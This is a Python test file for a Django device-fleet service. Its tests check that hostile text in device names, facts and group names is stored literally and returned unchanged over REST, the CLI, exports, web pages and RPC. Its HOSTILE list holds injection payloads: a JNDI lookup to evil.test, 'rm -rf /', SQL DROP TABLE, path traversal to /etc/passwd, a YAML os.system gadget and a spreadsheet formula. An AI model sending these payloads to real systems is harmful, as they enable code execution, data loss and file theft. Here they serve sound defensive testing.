"""S50: texts are stored as they are sent, run nowhere, and come out of every door unchanged."""

import csv
import html
import io
import json
from collections.abc import Callable
from typing import Any

import pytest
from django.test import Client
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from apps.audit.domain.cells import original
from apps.core.tenancy import tenant
from apps.devices.models import Device
from apps.devices.services.devices import record_inventory
from apps.devices.types import Facts
from apps.enrollment.selectors import device_actor
from fleetctl.output import show_list, show_one
from fleetd.pb.public.v1 import fleet_pb2
from tests import factories
from tests.enrollment.conftest import CALL
from tests.rpc.conftest import open_doors
from tests.rpc.doors import PROTOCOLS

HOSTILE = [
    "{{7*7}}",
    "{% load x %}{{ settings.SECRET_KEY }}",
    "${jndi:ldap://evil.test/a}",
    "#{7*7}",
    "<%= 7*7 %>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "; rm -rf / #",
    "$(reboot)`reboot`",
    "' OR '1'='1' --",
    'x"; DROP TABLE devices_device; --',
    "%s%n%(name)s{0}{name}",
    "*)(uid=*))(|(uid=*",
    "- a\n- b: !!python/object/apply:os.system [id]",
    "key: value # comment",
    "&anchor *alias",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1",
    "-1",
    "'",
    "null",
    "true",
    "0123",
    "1e3",
    "~",
    "ＡＢＣ",
    "e\u0301 ≠ \u00e9",
    "\u202egnp.exe",
    "a\u2028b",
    "👩‍👩‍👧",
]
TEXTS = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=60)
CALM = settings(
    max_examples=8,
    deadline=None,
    database=None,
    derandomize=True,
    suppress_health_check=[HealthCheck.function_scoped_fixture],
)


@pytest.fixture
def owner(alice_member: Any) -> Client:
    """Alice's browser."""
    client = Client()
    client.force_login(alice_member.user)
    return client


@pytest.fixture
def key(alice_member: Any) -> dict[str, str]:
    """Alice's key."""
    return {"Authorization": f"Bearer {factories.api_key(alice_member)}"}


def _is_steering(text: str) -> bool:
    """Whether a text holds characters that nobody sees, or that control a terminal or a line."""
    return not text.isprintable()


def _each(texts: list[str]) -> Callable[[Any], Any]:
    def decorate(function: Any) -> Any:
        for text in texts:
            function = example(text=text)(function)
        return function

    return decorate


@pytest.mark.django_db
@CALM
@given(text=TEXTS)
@_each(HOSTILE)
def test_s50_names_come_back_over_rest_and_command_line(
    text: str, key: dict[str, str], acme: Any, capsys: pytest.CaptureFixture[str]
) -> None:
    """Given any text as a device's name, when it is stored, then REST and the CLI's JSON give
    exactly that text back, or it is refused and nothing is stored."""
    client = Client(headers=key)
    address = f"/api/v1/devices/{acme.device.id}"
    before = client.get(address).json()["name"]
    answer = client.patch(address, json.dumps({"name": text}), "application/json")
    if answer.status_code == 400:
        assert client.get(address).json()["name"] == before
        assert not text.strip() or _is_steering(text) or text != text.strip()
        return
    assert answer.status_code == 200, answer.content
    stored = client.get(address).json()
    assert stored["name"] == text.strip()
    capsys.readouterr()
    show_one(stored, "json")
    assert json.loads(capsys.readouterr().out)["name"] == stored["name"]
    show_list([stored], [("NAME", "name")], "json")
    assert json.loads(capsys.readouterr().out)[0]["name"] == stored["name"]


@pytest.mark.django_db
def test_s50_names_come_back_out_of_exports(key: dict[str, str], acme: Any) -> None:
    """Given hostile names in the audit trail, when it is exported as CSV and NDJSON and read back,
    then they are what they were."""
    client, names = Client(headers=key), set()
    for text in HOSTILE:
        body = json.dumps({"name": text})
        path = f"/api/v1/devices/{acme.device.id}"
        if client.patch(path, body, "application/json").status_code == 200:
            names.add(text)
    assert len(names) >= len(HOSTILE) - 4
    query = {"page_size": 1000}
    as_csv = client.get("/api/v1/audit-entries", query, headers={"Accept": "text/csv"})
    rows = list(csv.DictReader(io.StringIO(_body(as_csv), newline="")))
    assert names <= {original(row["object_label"]) for row in rows}
    as_lines = client.get(
        "/api/v1/audit-entries", query, headers={"Accept": "application/x-ndjson"}
    )
    lines = [json.loads(line) for line in _body(as_lines).split("\n") if line]
    assert names <= {line["object_label"] for line in lines}


def _body(answer: Any) -> str:
    assert answer.status_code == 200, answer.content
    parts = answer.streaming_content if answer.streaming else [answer.content]
    return b"".join(parts).decode()


@pytest.mark.django_db
@CALM
@given(text=TEXTS)
@_each(HOSTILE)
def test_s50_what_a_device_says_is_kept_literally(
    text: str, key: dict[str, str], acme: Any
) -> None:
    """Given any text as a fact, serial or component of a device, when it reports it, then that text
    is stored and shown, and nothing that stands in it is carried out."""
    facts = Facts(
        serial=text, os_name=text, details={"custom": {text: text}}, installed={text: "1"}
    )
    with tenant(acme.id):
        record_inventory(device_actor(acme.id, acme.device.id, CALL), acme.device.id, facts)
        row = Device.objects.for_org(acme.id).get(id=acme.device.id)
    assert (row.serial, row.os_name) == (text, text)
    assert row.inventory["custom"] == {text: text}
    assert row.installed == {text: "1"}
    shown = Client(headers=key).get(f"/api/v1/devices/{acme.device.id}").json()
    assert text in (shown["serial"], shown.get("inventory", {}).get("serial"))


@pytest.mark.django_db
def test_s50_pages_show_texts_and_run_none(owner: Client, key: dict[str, str], acme: Any) -> None:
    """Given hostile names, tags and facts, when pages show them, then they stand there as text, and
    no template, format or path in them has been followed."""
    client = Client(headers=key)
    for text in HOSTILE:
        if _is_steering(text):
            continue
        body = json.dumps({"name": text})
        address = f"/api/v1/devices/{acme.device.id}"
        if client.patch(address, body, "application/json").status_code != 200:
            continue
        for path in ("/devices", f"/devices/{acme.device.id}", "/admin/devices/device/", "/audit"):
            page = owner.get(path)
            assert page.status_code == 200, path
            shown = html.unescape(page.content.decode())
            assert text in shown, (path, text)


async def test_s50_the_same_over_every_rpc_protocol(transactional_db: None, alice_member: Any):
    """Given hostile texts, when they are sent and read over Connect, gRPC-Web and gRPC, then they
    come back unchanged, and REST shows the same."""
    from asgiref.sync import sync_to_async

    secret = await sync_to_async(factories.api_key)(alice_member)
    headers = {"Authorization": f"Bearer {secret}"}
    made: dict[str, str] = {}
    async with open_doors() as doors:
        for number, text in enumerate(HOSTILE):
            protocol = PROTOCOLS[number % len(PROTOCOLS)]
            answer = await doors.call(
                protocol,
                "public.v1.FleetService/CreateDeviceGroup",
                fleet_pb2.CreateDeviceGroupRequest(name=text),
                fleet_pb2.CreateDeviceGroupResponse,
                headers,
            )
            if answer.status == "INVALID_ARGUMENT":
                assert _is_steering(text)
                continue
            assert answer.status == "OK", (text, answer)
            assert answer.response.device_group.name == text
            made[answer.response.device_group.id] = text
        for protocol in PROTOCOLS:
            answer = await doors.call(
                protocol,
                "public.v1.FleetService/ListDeviceGroups",
                fleet_pb2.ListDeviceGroupsRequest(page_size=500),
                fleet_pb2.ListDeviceGroupsResponse,
                headers,
            )
            names = {g.id: g.name for g in answer.response.items}
            assert {id: names[id] for id in made} == made
    assert len(made) >= len(HOSTILE) - 4
    listed = await sync_to_async(Client(headers=headers).get)("/api/v1/device-groups?page_size=500")
    assert {g["id"]: g["name"] for g in listed.json()["items"] if g["id"] in made} == made
